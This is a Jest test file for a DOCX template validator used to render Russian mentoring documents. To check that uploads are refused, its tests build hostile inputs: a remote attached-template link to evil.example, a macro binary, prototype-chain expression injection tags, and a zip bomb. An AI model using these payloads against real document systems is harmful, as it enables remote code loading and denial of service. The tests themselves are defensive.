import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import PizZip from 'pizzip';
import type { JsonObject } from '@tandem/domain';
import { Refusal } from '../../problems/problem-error.js';
import { caseTags, type CaseFacts } from '../tags/case-tags.js';
import { flattenAnswers } from '../tags/flatten-answers.js';
import type { Names } from '../tags/tag.js';
import { mapTags, templateMapSchema } from '../tags/template-map.js';
import { checkTemplate } from './check-template.js';
import { listTags } from './list-tags.js';
import { renderTemplate } from './render-template.js';

const forms = resolve(import.meta.dirname, '../../../../../forms');
const templates = readdirSync(forms, { withFileTypes: true })
  .filter((stage) => stage.isDirectory())
  .flatMap((stage) => readdirSync(join(forms, stage.name)).map((form) => join(forms, stage.name, form)))
  // Those of papers have no form beside them.
  .filter((folder) => ['template.docx', 'schema.json'].every((file) => existsSync(join(folder, file))));

const json = (path: string): JsonObject => JSON.parse(readFileSync(path, 'utf8')) as JsonObject;
const person = (name: string) => ({ name, short: name, position: 'учитель' });
const facts: CaseFacts = {
  date: '2026-09-18',
  version: 1,
  caseTitle: 'Орлова — Сафин',
  unit: 'Школа № 1',
  head: person('Волков А. И.'),
  mentors: [person('Орлова')],
  mentees: [person('Сафин')],
};
const names: Names = {
  persons: new Map(
    [1, 2, 3, 4, 5].map((n) => [`01980000-0000-7000-8000-00000000000${n}`, person(`Человек ${n}`)]),
  ),
  things: new Map(),
};
const textOf = (document: Buffer): string =>
  new PizZip(document)
    .file('word/document.xml')!
    .asText()
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '');

const render = (folder: string, data: JsonObject): string => {
  const schema = json(join(folder, 'schema.json'));
  const map = templateMapSchema.parse(json(join(folder, 'template.json')));
  const source = { schema, data, names, zone: 'Asia/Tomsk', facts };
  return textOf(
    renderTemplate(readFileSync(join(folder, 'template.docx')), {
      ...caseTags(facts),
      ...flattenAnswers(schema, data, names, 'Asia/Tomsk'),
      ...mapTags(map.values, source),
    }),
  );
};

const samplesOf = (folder: string): string[] =>
  readdirSync(join(folder, 'samples')).filter((name) => name.startsWith('valid'));

describe('templates of the content pack', () => {
  it('are those of the documents that forms promise', () => {
    expect(templates.map((folder) => folder.split('/').at(-1)).sort()).toEqual(
      expect.arrayContaining(['change-request', 'mentee-consent', 'mentor-consent', 'pair-assignment-order']),
    );
  });
  it.each(templates)('%s passes the check that a methodist’s own passes, and tells its tags', (folder) => {
    const schema = json(join(folder, 'schema.json'));
    const map = templateMapSchema.parse(json(join(folder, 'template.json')));
    checkTemplate(readFileSync(join(folder, 'template.docx')), schema, map);
    expect(listTags(schema, map).every((one) => one.title.length > 0)).toBe(true);
  });
  it.each(templates.flatMap((folder) => samplesOf(folder).map((sample) => [folder, sample] as const)))(
    '%s with %s says everything in words',
    (folder, sample) => {
      const text = render(folder, json(join(folder, 'samples', sample))['data'] as JsonObject);
      expect(text).not.toMatch(/[{}]|undefined|null|NaN|\[object/);
      expect(text).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-/);
      expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}/);
    },
  );
  it('an order names the pair, the dates and the number', () => {
    const folder = templates.find((one) => one.endsWith('pair-assignment-order'))!;
    const text = render(folder, json(join(folder, 'samples/valid.json'))['data'] as JsonObject);
    expect(text).toContain('112-о');
    expect(text).toContain('18\u00a0сентября\u00a02026\u00a0г.');
    expect(text).toContain('Человек 2');
    expect(text).toContain('Традиционное: один на один');
    expect(text).toContain('Процент от оклада, 15');
  });
});

describe('a methodist’s template', () => {
  const folder = dirname(
    join(
      templates.find((one) => one.endsWith('pair-assignment-order'))!,
      'x',
    ),
  );
  const schema = json(join(folder, 'schema.json'));
  const map = templateMapSchema.parse(json(join(folder, 'template.json')));
  const withBody = (body: string, change: (zip: PizZip) => void = () => undefined): Buffer => {
    const zip = new PizZip(readFileSync(join(folder, 'template.docx')));
    zip.file(
      'word/document.xml',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`,
    );
    change(zip);
    return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
  };
  const refusal = (template: Buffer): Refusal => {
    try {
      checkTemplate(template, schema, map);
    } catch (error) {
      if (error instanceof Refusal) return error;
      throw error;
    }
    throw new Error('it was taken');
  };

  it('is taken with tags of the form, of the case and of the map', () => {
    checkTemplate(withBody('{number} {case.unit} {#pairs}{mentorName} {orderNumber}{/pairs}'), schema, map);
  });
  it.each([
    ['an unknown tag', '{orderNumbr}', '{orderNumbr}'],
    ['an unknown tag in rows', '{#pairs}{wrong}{/pairs}', '{pairs} → {wrong}'],
    ['a name of the prototype', '{constructor}', '{constructor}'],
    ['an open loop', '{#pairs}', '{pairs}'],
    ['raw XML', '{@number}', '{number}'],
  ])('is refused with %s, which is named', (_, body, path) => {
    const { status, code, extra } = refusal(withBody(body));
    expect([status, code]).toEqual([422, 'template-broken']);
    expect(extra.errors!.map((one) => one.path)).toContain(path);
  });
  it('is refused when it is no document, holds macros or fetches from elsewhere', () => {
    expect(refusal(Buffer.from('not a zip at all, but long enough to look at')).words.ru).toContain(
      'не документ Word',
    );
    expect(refusal(withBody('x', (zip) => zip.file('word/vbaProject.bin', 'x'))).words.ru).toContain(
      'макросы',
    );
    const fetching = withBody('x', (zip) =>
      zip.file(
        'word/_rels/settings.xml.rels',
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
      ),
    );
    expect(refusal(fetching).words.ru).toContain('с чужого адреса');
  });
  it('does not run expressions: a tag is a name', () => {
    expect(refusal(withBody('{number.constructor.constructor(1)}')).status).toBe(422);
  });
  it('is refused when it swells', () => {
    const bomb = withBody('x', (zip) => zip.file('word/media/a.xml', ' '.repeat(50_000_000)));
    expect(bomb.length).toBeLessThan(500_000);
    expect(refusal(bomb).status).toBe(422);
  });
});
